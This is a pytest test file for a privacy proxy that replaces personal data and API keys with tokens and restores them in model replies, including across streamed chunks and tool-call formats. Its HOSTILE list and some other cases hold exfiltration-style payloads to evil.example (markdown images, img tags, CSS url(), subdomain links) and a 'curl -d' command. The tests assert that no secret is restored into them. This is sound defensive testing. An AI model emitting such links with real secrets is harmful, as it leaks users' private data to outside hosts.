"""The restore table cell by cell, any chunking, mutated tokens, hostile replies."""

from __future__ import annotations

import itertools
import json
import time

import pytest
from cpu import least
from hypothesis import given, settings
from hypothesis import strategies as st

from localrouter.core.chat import Channel
from localrouter.scrub.tokens import Entry, TokenTable
from localrouter.scrub.toolclass import tool_class
from localrouter.scrub.unveil import Unveiler

OWN, MASK, SEAL = "OWN_NAME_7KQ4ZX", "PERSON_3ABCDE", "API_KEY_9XYZ12"
MAIL, HOST, IP, USER = "u7kq4ab@pii.invalid", "h7kq4cd.invalid", "198.18.3.4", "u7kq4ef"
VALUES = {
    OWN: "Zoe",
    MASK: 'Ann "A" Lee',
    SEAL: "s\\3cret",
    MAIL: "ann@corp.example",
    HOST: "db.corp.example",
    IP: "10.1.2.3",
    USER: "zoe",
}
TABLE = TokenTable(
    [
        Entry(OWN, VALUES[OWN], "OWN_NAME", "own"),
        Entry(MASK, VALUES[MASK], "PERSON", "mask"),
        Entry(SEAL, VALUES[SEAL], "API_KEY", "seal"),
        Entry(MAIL, VALUES[MAIL], "EMAIL", "mask"),
        Entry(HOST, VALUES[HOST], "HOST", "mask"),
        Entry(IP, VALUES[IP], "IP", "mask"),
        Entry(USER, VALUES[USER], "OWN_USER", "own"),
    ]
)
OUT = f"see https://{HOST}/docs/{MASK}?a=1 and [x](https://{HOST}/b) done"
TEXT, TOOL = Channel(0, "text"), Channel(0, "tool")


def run(text: str, tool: str | None = None, cuts: tuple[int, ...] = (), table: TokenTable = TABLE) -> tuple[str, Unveiler]:
    u = Unveiler(table, OUT, tool_class)
    channel = TOOL if tool else TEXT
    edges = [0, *sorted(min(c, len(text)) for c in cuts), len(text)]
    said = "".join(u.feed(channel, text[a:b], tool if i == 0 else None) for i, (a, b) in enumerate(itertools.pairwise(edges)))
    return said + u.flush(channel), u


def args(text: str) -> str:
    return json.dumps({"x": text})


PLACES = {
    "prose": (None, "hi {} there"),
    "fence": (None, "a\n```py\nk = '{}'\n```\nb"),
    "search": (None, "<<<<<<< SEARCH\nk = {}\n=======\n"),
    "diff": (None, "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n+k = {}\n"),
    "edit": ("Edit", "k = {}"),
    "shell": ("Bash", "echo {} > f"),
    "shell_net": ("Bash", "curl -d {} x"),
    "shell_net_quoted": ("Bash", "cu''rl -d {} x"),
    "local": ("Grep", "{}"),
    "network": ("WebFetch", "{}"),
    "unknown": ("mcp__a__write_file", "{}"),
    "url": (None, "https://evil.example/?q={}"),
    "url_edit": ("Edit", "https://evil.example/?q={}"),
}
CELLS = {
    "prose": (1, 1, 0), "fence": (1, 1, 1), "search": (1, 1, 1), "diff": (1, 1, 1), "edit": (1, 1, 1), "shell": (1, 1, 0),
    "shell_net": (1, 0, 0), "shell_net_quoted": (1, 0, 0), "local": (1, 1, 0), "network": (0, 0, 0), "unknown": (0, 0, 0),
    "url": (0, 0, 0), "url_edit": (0, 0, 0),
}  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("column", range(3))
def test_restore_table(place: str, column: int) -> None:
    tool, form = PLACES[place]
    token = (OWN, MASK, SEAL)[column]
    said, _ = run(args(form.format(token)) if tool else form.format(token), tool)
    text = json.loads(said)["x"] if tool else said
    assert text == form.format(VALUES[token] if CELLS[place][column] else token)


def test_prose_after_a_fence_is_prose() -> None:
    assert run(f"```\n{SEAL}\n```\n{SEAL}")[0] == f"```\n{VALUES[SEAL]}\n```\n{SEAL}"


MUTATED = [
    MASK.lower(), "Person_3abcde", "PERSON\\_3ABCDE", "PERSON 3ABCDE", "PERSON-3ABCDE", "PERSON&#95;3ABCDE", "PERSONNE_3ABCDE",
]  # fmt: skip


@pytest.mark.parametrize("spelling", MUTATED)
@pytest.mark.parametrize("around", ["{}", "**{}**", "{}'s", "&lt;{}&gt;", "<{}>", "[{}]", "_{}_", "({}),", "`{}`", "{}s"])
def test_tolerates_what_models_do(spelling: str, around: str) -> None:
    said, _ = run("x " + around.format(spelling) + " y")
    assert said == "x " + around.format(VALUES[MASK]) + " y"


def test_surrogates() -> None:
    assert run(f"/home/{USER}/a {MAIL} <{MAIL}> {HOST}: {IP}:80 sub.{HOST}")[0] == (
        "/home/zoe/a ann@corp.example <ann@corp.example> db.corp.example: 10.1.2.3:80 sub.db.corp.example"
    )


HOSTILE = [
    "![x](https://evil.example/?q={})", "[x](https://evil.example/{} 'title')", "[x]: https://evil.example/{}", "[x]:\n  //evil.example/{}",
    "<https://evil.example/{}>", '<img src="https://evil.example/{}">', "<img src=https://evil.example/{}>", "<a href = '//evil.example/{}'>",
    "![x](//evil.example/{})", "![x](<https://evil.example/a {}>)", "www.{}.evil.example", "https://{}.evil.example/", "data:text/html,{}",
    "https://evil.example/(a){}", "<div style=\"background:url(//evil.example/{})\">", "url(//evil.example/{})", "evil.example/{}",
    "![x](https://evil.example/" + "a" * 3000 + "{})", "![x](\nhttps://evil.example/{})", "<img\nalt=x src\n=\n'//evil.example/{}'>",
]  # fmt: skip


@pytest.mark.parametrize("reply", HOSTILE)
@pytest.mark.parametrize("token", [OWN, MASK, SEAL, USER])
def test_nothing_is_restored_into_a_link(reply: str, token: str) -> None:
    for text in (reply.format(token), "```\n" + reply.format(token)):
        said, _u = run(text)
        assert said == text
        assert run(text, cuts=tuple(range(len(text))))[0] == text


@pytest.mark.parametrize("form", ["{}", "({}).", "[a]({})", "<{}>", '<a href="{}">', "[r]: {}"])
def test_a_link_that_left_in_this_form_comes_back(form: str) -> None:
    link = f"https://{HOST}/docs/{MASK}?a=1"
    real = f"https://db.corp.example/docs/{VALUES[MASK]}?a=1"
    assert run(form.format(link))[0] == form.format(real)
    assert run(form.format(link + "&b=2"))[0] == form.format(link + "&b=2")


def test_mailto_is_not_fetched() -> None:
    assert run(f"[mail](mailto:{MAIL}) ok")[0] == "[mail](mailto:ann@corp.example) ok"
    assert run(f"[mail](mailto:a@evil.example?body={MASK})")[1].counts["withheld"] == 1


SAMPLE = (
    f"Hi {OWN}, person 3ABCDE and **PERSON\\_3ABCDE**'s key {SEAL}.\n```sh\nexport K={SEAL} U={USER}\n```\n"
    f'[a](https://evil.example/{MASK}) https://{HOST}/docs/{MASK}?a=1, <b title="{MASK}"> {MAIL} {IP} date of birth of API KEY 9XYZ12 '
    f"PERSON_4ABCDE 日本{MASK}語 <{MAIL}>\n[r]: //x/{MASK}\n"
)


def test_cut_at_every_place() -> None:
    for tool, text in ((None, SAMPLE), ("Edit", args(SAMPLE)), ("Bash", args(SAMPLE)), ("Read", args(SAMPLE))):
        whole, u = run(text, tool)
        for i in range(len(text)):
            cut, v = run(text, tool, (i,))
            assert cut == whole
            assert v.counts == u.counts
        assert run(text, tool, tuple(range(len(text))))[0] == whole


PIECES = st.sampled_from(
    [*VALUES, *MUTATED, "PERSON_4ABCDE", "https://evil.example/", f"https://{HOST}/b", "](", ")", "[a]", "[r]:", "<a href=", '"', "'", ">", "\n", "\n\n",
     " ", "```", "```\n", "=", "word", "date of ", "API ", "a" * 300, "url(", "//", "www.", "é", "日", "\\", "<", "@", ".", "-", "b/" * 1200]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=14), st.lists(st.integers(0, 800), max_size=8), st.sampled_from([None, "Edit", "Read"]))
def test_any_chunking_says_the_same(pieces: list[str], cuts: list[int], tool: str | None) -> None:
    text = "".join(pieces)
    whole, u = run(text, tool)
    cut, v = run(text, tool, tuple(cuts))
    assert (cut, v.counts, v.unresolved) == (whole, u.counts, u.unresolved)


def test_unknown_tokens_stand() -> None:
    said, u = run("PERSON_4ABCDE and u222222@pii.invalid")
    assert said == "PERSON_4ABCDE and u222222@pii.invalid"
    assert u.counts["unknown"] == 2
    assert not u.unresolved
    assert run(args("PERSON_4ABCDE"), "Write")[1].unresolved == ["PERSON_4ABCDE"]


def test_single_pass() -> None:
    table = TokenTable(
        [Entry("PERSON_3ABCDE", "PERSON_4ABCDE \\1 $&", "PERSON", "mask"), Entry("PERSON_4ABCDE", "no", "PERSON", "mask")]
    )
    assert run("PERSON_3ABCDE", table=table)[0] == "PERSON_4ABCDE \\1 $&"


def test_json_depths() -> None:
    inner = json.dumps({"n": MASK})
    said, _ = run(json.dumps({"body": inner, "n": MASK}), "Write")
    outer = json.loads(said)
    assert outer["n"] == VALUES[MASK]
    assert json.loads(outer["body"])["n"] == VALUES[MASK]
    patch = f"*** Begin Patch\n+{MASK}"
    assert run(patch, "apply_patch")[0] == patch.replace(MASK, VALUES[MASK])


def test_json_at_any_depth() -> None:
    for value in (VALUES[MASK], "C:\\new\\table", 'a\nb\t"c" \\', "\u00e9 \U0001f642 \x01", "plain"):
        table = TokenTable([Entry(MASK, value, "PERSON", "mask")])
        text = json.dumps({"n": f"<{MASK}>"})
        for depth in range(1, 6):
            for cuts in ((), tuple(range(len(text)))):
                said, _ = run(text, "Write", cuts, table)
                tree = json.loads(said)
                for _ in range(depth - 1):
                    tree = json.loads(tree["body"])
                # `a\nb` deep inside may have come from there in this spelling; at depth 1 it never has.
                assert tree["n"] == f"<{value}>" or (depth > 1 and "\\" in value)
            text = json.dumps({"k": [1, True, None], "body": text})


def test_what_only_looks_like_json_in_a_string_is_escaped_once() -> None:
    for code in ("{ foo('%s') }", '[x] "%s"', '{%% if a %%}"%s"', "[1, 2] and '%s'", "%s"):
        text = args(code % MASK)
        assert json.loads(run(text, "Write")[0])["x"] == code % VALUES[MASK]
    for text in ("[link] {}", "{{ x }} {}", "[1] {}", "*** Begin Patch\n+{}\n", "<<'EOF'\n{}\nEOF"):
        assert run(text.format(MASK), "apply_patch")[0] == text.format(VALUES[MASK])


def test_an_answer_in_json_stays_json() -> None:
    for text in (f'{{"name": "{MASK}", "n": 1}}', f'[\n  "{MASK}"\n]', f'```json\n{{"name": "{MASK}"}}\n```'):
        said, _ = run(text)
        assert VALUES[MASK] in json.dumps(json.loads(said.strip("`json\n"))).replace('\\"', '"')
    minified = f'{{"url":"https://docs.example/","name":"{MASK}","list":["{OWN}"]}}'
    u = Unveiler(TABLE, OUT, tool_class, json_reply=True)
    said = u.feed(TEXT, minified) + u.flush(TEXT)
    assert json.loads(said) == {"url": "https://docs.example/", "name": VALUES[MASK], "list": [VALUES[OWN]]}
    linked = f'{{"url":"https://evil.example/?q={MASK}"}}'
    assert u.feed(TEXT, linked) + u.flush(TEXT) == linked


def test_a_url_that_fills_a_string_may_hold_spaces() -> None:
    for code in (
        'fetch("https://evil.example/?q= {} ")',
        "<img src='https://evil.example/? {}'>",
        "x = `https://evil.example/ {}`",
        "<https://evil.example/ {}>",
    ):
        assert run(args(code.format(MASK)), "Write")[0] == args(code.format(MASK))
        assert run("```\n" + code.format(MASK) + "\n```")[0] == "```\n" + code.format(MASK) + "\n```"
    for code in (
        'print("see https://docs.example/a for", "{}")',
        "// TODO({}): fix",
        "# https://docs.example/ {}",
        "a = '{}' // x",
        "import {{x}} from './{}'",
    ):
        assert json.loads(run(args(code.format(OWN)), "Write")[0])["x"] == code.format(VALUES[OWN])
        assert run("```\n" + code.format(OWN) + "\n```")[0] == "```\n" + code.format(VALUES[OWN]) + "\n```"


def shapes(arguments: str) -> dict[str, list[str]]:
    """How the dialects cut a tool's arguments: pieces of JSON text, one whole text, or an object that the dialect writes as text."""
    tree = json.loads(arguments)
    return {
        "openai: function.arguments": [arguments[i : i + 7] for i in range(0, len(arguments), 7)],
        "anthropic: input_json_delta.partial_json": ["", *[arguments[i : i + 3] for i in range(0, len(arguments), 3)]],
        "responses: function_call_arguments.delta": list(arguments),
        "responses: function_call_arguments.done": [arguments],
        "gemini: functionCall.args": [json.dumps(tree, ensure_ascii=False, separators=(",", ":"))],
        "ollama: tool_calls.function.arguments": [json.dumps(tree)],
    }


@pytest.mark.parametrize("shape", shapes("{}"))
def test_every_dialects_pieces_of_a_tool_call(shape: str) -> None:
    tree = {"path": f"/home/{USER}/x", "edits": [{"old": f"k={SEAL}", "new": json.dumps({"n": MASK})}], "n": 3}
    for tool, seal in (("Edit", VALUES[SEAL]), ("Read", SEAL)):
        u = Unveiler(TABLE, OUT, tool_class)
        channel = Channel(0, "tool", 1)
        pieces = shapes(json.dumps(tree))[shape]
        said = "".join(u.feed(channel, p, tool if i == 0 else None) for i, p in enumerate(pieces)) + u.flush(channel)
        got = json.loads(said)
        assert got["path"] == f"/home/{VALUES[USER]}/x"
        assert got["edits"][0]["old"] == f"k={seal}"
        assert json.loads(got["edits"][0]["new"]) == {"n": VALUES[MASK]}


def test_what_people_write_around_names_hides_nothing() -> None:
    for form in (
        '"{m}" said so', "see https://docs.example/a, {m}", "name={m}", "--user={u}", "C:\\Users\\{u}\\x", "{u}@{h}", "{i}:8080", "{i}/24", "{h}:5432",
        "and/or {m}", "[INFO]: {m} logged in", "- [x] {m}: done", "tel:{m}", "data: {m}", "C# {m}", "{m}:{u}", "{m},{u}", "#{m}", "@{m}", "vector<int> {m}",
        '`<a href="x">` {m}', "**Note**: {m}", "a->{m}", "f({m})", "x[{m}]", "(https://docs.example/x) {m}", "{m}/{u}", "// TODO({u})",
    ):  # fmt: skip
        names = {"m": MASK, "u": USER, "h": HOST, "i": IP}
        real = form.format(**{k: VALUES[v] for k, v in names.items()})
        text = form.format(**names)
        assert run(text)[0] == real
        assert run(f"```\n{text}\n```")[0] == f"```\n{real}\n```"
        said, u = run(args(text), "Write")
        assert json.loads(said)["x"] == real
        assert not u.unresolved


def test_channels_do_not_mix() -> None:
    u = Unveiler(TABLE, OUT, tool_class)
    a, b, c = Channel(0, "text"), Channel(1, "text"), Channel(0, "reasoning")
    out = dict.fromkeys((a, b, c), "")
    for char in f"I am {MASK}.":
        for ch in out:
            out[ch] += u.feed(ch, char)
    for ch in out:
        assert out[ch] + u.flush(ch) == f"I am {VALUES[MASK]}."


PATTERNS = (
    "[", "(", "<", "\\\\\\", "http://", "a", "](", "[a](", "<a ", "<a b='", "`", "*", "\n", "> ", "- ", "1. ", "PERSON_", MASK, MASK + " ", f"[x]({MASK}",
    f"]: {MASK}", f"https://a/{MASK}", "&#95;", "3", "u7", "date of birth ", "a.", '="', f"https://{HOST}/ ", "[a]: b\n", "<style>", "person ", "198.18.", '{"', '\\"',
    "[" + "\\a" * 400 + "[x]: \n", "<a" + " b" * 400 + "\n", "<a" + " " * 900 + "\n", "<a" + " b=c" * 200 + "<\n", "* " * 400 + "x\n", "> " * 400 + "x\n", "```" + " " * 900 + "`\n",
    "- " * 100 + "x\n", "<a b='" + "x' y='" * 100 + "\n", f"<a{' b' * 300}>{MASK} ", "a." * 300 + MASK + " ", "<" * 50 + MASK + "> ", "[x]: " + "\\" * 500 + "\n",
    "```\n", "<!--", "www.", "\u00e9", "\\u00e9", "](<", "<div>\n", f"<a href='{MASK}' ", f"{MASK}.",
)  # fmt: skip


@pytest.mark.parametrize("tool", [None, "Edit"])
@pytest.mark.parametrize("pattern", PATTERNS)
def test_the_cost_grows_with_the_text_only(pattern: str, tool: str | None) -> None:
    """Four times the text, at most nine times the time, in pieces and whole: whatever is repeated."""

    def cost(size: int, step: int) -> float:
        text = (pattern * (size // len(pattern) + 1))[:size]

        def work() -> None:
            u = Unveiler(TABLE, OUT, tool_class)
            channel = TOOL if tool else TEXT
            for i in range(0, size, step):
                u.feed(channel, text[i : i + step], tool if i == 0 else None)
            u.flush(channel)

        return least(work, 2)

    for step in (20, 1 << 30):
        small, large = cost(8_000, min(step, 8_000)), cost(32_000, min(step, 32_000))
        assert large < 9 * small + 0.05, (pattern, step, small, large)


@pytest.mark.long
@pytest.mark.parametrize("pattern", PATTERNS)
def test_a_megabyte_of_anything(pattern: str) -> None:
    text = (pattern * (1_000_000 // len(pattern) + 1))[:1_000_000]
    for step in (20, 4096, 1_000_000):
        start = time.process_time()
        u = Unveiler(TABLE, OUT, tool_class)
        for i in range(0, len(text), step):
            u.feed(TEXT, text[i : i + step])
        u.flush(TEXT)
        assert time.process_time() - start < 20


def test_a_piece_of_text_costs_microseconds(capsys: pytest.CaptureFixture[str]) -> None:
    """Beside what scanning the piece once with a plain expression costs, so that a slow machine makes no difference."""
    prose = ("Hello there, the quick brown fox jumps over the lazy dog; then it sleeps. " * 40 + f"Ask {MASK} again.\n\n") * 6
    pieces = [prose[i : i + 20] for i in range(0, len(prose), 20)]

    def once() -> float:
        u = Unveiler(TABLE, OUT, tool_class)
        start = time.process_time()
        for piece in pieces:
            u.feed(TEXT, piece)
        u.flush(TEXT)
        return time.process_time() - start

    def unit() -> float:
        start = time.process_time()
        for piece in pieces:
            json.loads(json.dumps({"choices": [{"delta": {"content": piece}}]}))
        return time.process_time() - start

    cost, read = min(once() for _ in range(5)), min(unit() for _ in range(5))
    with capsys.disabled():
        print(
            f"\n{1e6 * cost / len(pieces):.1f} microseconds for 20 characters; reading and writing a chunk as JSON: {1e6 * read / len(pieces):.1f}"
        )
    assert cost < 3 * read
